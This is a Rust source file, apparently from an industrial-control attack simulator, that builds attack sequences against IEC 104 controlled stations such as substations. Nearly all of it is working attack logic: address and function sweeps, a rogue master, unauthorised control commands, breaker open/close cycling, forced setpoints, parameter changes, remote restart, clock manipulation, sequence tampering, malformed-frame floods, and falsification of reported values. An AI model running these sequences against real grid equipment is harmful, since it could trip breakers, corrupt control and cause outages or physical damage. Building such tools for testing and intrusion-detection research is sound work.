//! Attacks on IEC 104 controlled stations.

use super::Behaviour;
use super::plan::Target;
use super::steps::Step;
use crate::encode::iec104::{Asdu, Element, START, Time, cause, frame_i, octets, size, type_id as id};
use crate::master::{Command, command};

const MS: u64 = 1_000_000;

fn request(target: &Target<'_>, type_id: u8, object: u32, elements: &[Element]) -> Asdu {
    let cause = if type_id == id::C_RD_NA_1 { cause::REQUEST } else { cause::ACTIVATION };
    Asdu::new(type_id, cause, target.number, object, octets(elements))
}

/// Asked one after the other with pauses, then closed.
fn asked(target: &Target<'_>, every: u64, requests: impl IntoIterator<Item = Asdu>) -> Vec<Step> {
    let step = |asdu: Asdu| [Step::Asdu(target.place, asdu.encode()), Step::Wait(every)];
    let mut steps: Vec<Step> = requests.into_iter().flat_map(step).collect();
    steps.push(Step::Close);
    steps
}

pub(super) fn steps(mut target: Target<'_>) -> Vec<Step> {
    let every = target.every(200);
    let interrogation = |target: &Target<'_>| request(target, id::C_IC_NA_1, 0, &[Element::Qoi(20)]);
    match target.attack.behaviour {
        Behaviour::LinkAddressSweep => {
            let probe = |address| Asdu { address, ..interrogation(&target) };
            asked(&target, every, target.numbers().map(probe))
        }
        Behaviour::FunctionSweep => {
            // Nothing that operates, sets or resets.
            let harmless = |n: &u16| !matches!(n, 45..=64 | 101 | 103 | 105 | 110..=113);
            let probe = |n: u16| {
                let octets = vec![0; size(n as u8).unwrap_or(1)];
                Asdu::new(n as u8, cause::ACTIVATION, target.number, 0, octets)
            };
            asked(&target, every, target.numbers().filter(harmless).map(probe))
        }
        Behaviour::RegisterSweep => {
            let probe = |n: u16| request(&target, id::C_RD_NA_1, n.into(), &[]);
            asked(&target, every, target.numbers().map(probe))
        }
        Behaviour::RogueMaster => {
            let every = target.every(5000);
            let rounds = target.rounds(5000);
            asked(&target, every, (0..rounds).map(|_| interrogation(&target)))
        }
        Behaviour::UnauthorisedControl => {
            let word = target.attack.command.clone();
            asked(&target, every, controls(&target, word.as_deref()))
        }
        Behaviour::BreakerCycling => {
            let every = target.every(2000);
            let words = ["open", "close"];
            let rounds = 0..target.count() as usize;
            asked(&target, every, rounds.flat_map(|n| controls(&target, Some(words[n % 2]))))
        }
        Behaviour::ForcedSetpoints => {
            let value = target.attack.value.unwrap_or(0.0) as f32;
            let object = u32::from(target.attack.first.unwrap_or(0));
            let set = |select| {
                let elements = [Element::R32(value), Element::Qos { qualifier: 0, select }];
                request(&target, id::C_SE_NC_1, object, &elements)
            };
            let rounds = 0..target.count();
            asked(&target, every, rounds.flat_map(|_| [set(true), set(false)]))
        }
        Behaviour::ParameterChange => {
            let value = target.attack.value.unwrap_or(0.0) as f32;
            let object = u32::from(target.attack.first.unwrap_or(0));
            let qualifier = Element::Qpm { kind: 1, local: false, inactive: false };
            asked(&target, every, [request(&target, 112, object, &[Element::R32(value), qualifier])])
        }
        Behaviour::Restart => asked(&target, every, [request(&target, id::C_RP_NA_1, 0, &[Element::Qrp(1)])]),
        Behaviour::TimeManipulation => {
            let off = (target.attack.value.unwrap_or(0.0) * 1000.0) as i64;
            let time = Time::at((target.begin / MS).saturating_add_signed(off));
            asked(&target, every, [request(&target, id::C_CS_NA_1, 0, &[Element::Cp56(time)])])
        }
        Behaviour::SequenceTampering => tampered(&target),
        Behaviour::MalformedFlood => malformed(&mut target),
        _ => Vec::new(),
    }
}

/// The ASDUs of a command: execute alone, or select and execute.
fn controls(target: &Target<'_>, word: Option<&str>) -> Vec<Asdu> {
    let attack = target.attack;
    let point = attack.point.as_deref().unwrap_or("");
    let command = command(target.spec, point, word.unwrap_or(""), attack.value);
    let Ok(Command::Asdu(type_id, object, octets)) = command else { return Vec::new() };
    let length = size(type_id).unwrap_or(0);
    let selects: &[bool] = if attack.select { &[true, false] } else { &[false] };
    let order = |select: &bool| {
        let mut octets = octets[..length].to_vec();
        octets[length - 1] |= u8::from(*select) << 7;
        Asdu::new(type_id, cause::ACTIVATION, target.number, object, octets)
    };
    selects.iter().map(order).collect()
}

/// Each on a connection of its own, since the station closes it.
fn tampered(target: &Target<'_>) -> Vec<Step> {
    let every = target.every(2000);
    let asdu = request(target, id::C_IC_NA_1, 0, &[Element::Qoi(20)]).encode();
    let mut steps = Vec::new();
    for number in 0..target.count() {
        let wrong = if number % 2 == 0 { frame_i(100, 0, &asdu) } else { frame_i(1, 500, &asdu) };
        // A sound request before, so that the numbers are known.
        steps.extend([Step::Asdu(target.place, asdu.clone()), Step::Wait(500 * MS)]);
        steps.extend([Step::Tell(target.place, wrong), Step::Wait(every), Step::Close, Step::Wait(500 * MS)]);
    }
    steps
}

/// Lengths that do not fit, types that are none, frames that are none.
fn malformed(target: &mut Target<'_>) -> Vec<Step> {
    let every = target.every(10);
    let station = target.number.to_le_bytes();
    let mut steps = Vec::new();
    for _ in 0..target.count() {
        let bytes = match target.prng.below(4) {
            0 => vec![START, 4, 0xff, 0, 0, 0],
            1 => frame_i(0, 0, &[100, 5, 6, 0, station[0], station[1], 0, 0, 0, 20]),
            2 => frame_i(0, 0, &[99, 1, 6, 0, station[0], station[1], 0, 0, 0, 0]),
            _ => vec![START, 2, 0, 0],
        };
        steps.extend([Step::Tell(target.place, bytes), Step::Wait(every)]);
    }
    steps.push(Step::Close);
    steps
}

/// Make another value of the first object of a report; false when there is none.
pub(super) fn falsify(apdu: &mut [u8]) -> bool {
    let [START, _, control, _, _, _, type_id, ..] = *apdu else { return false };
    if control & 1 != 0 {
        return false;
    }
    match (type_id, apdu.get_mut(15..19)) {
        // Singles and doubles change sides.
        (id::M_SP_NA_1 | id::M_SP_TB_1, Some(value)) => value[0] ^= 1,
        (id::M_DP_NA_1 | id::M_DP_TB_1, Some(value)) => value[0] ^= 3,
        (id::M_ME_NC_1 | id::M_ME_TF_1, Some(value)) => value[2] ^= 0x40,
        _ => return false,
    }
    true
}
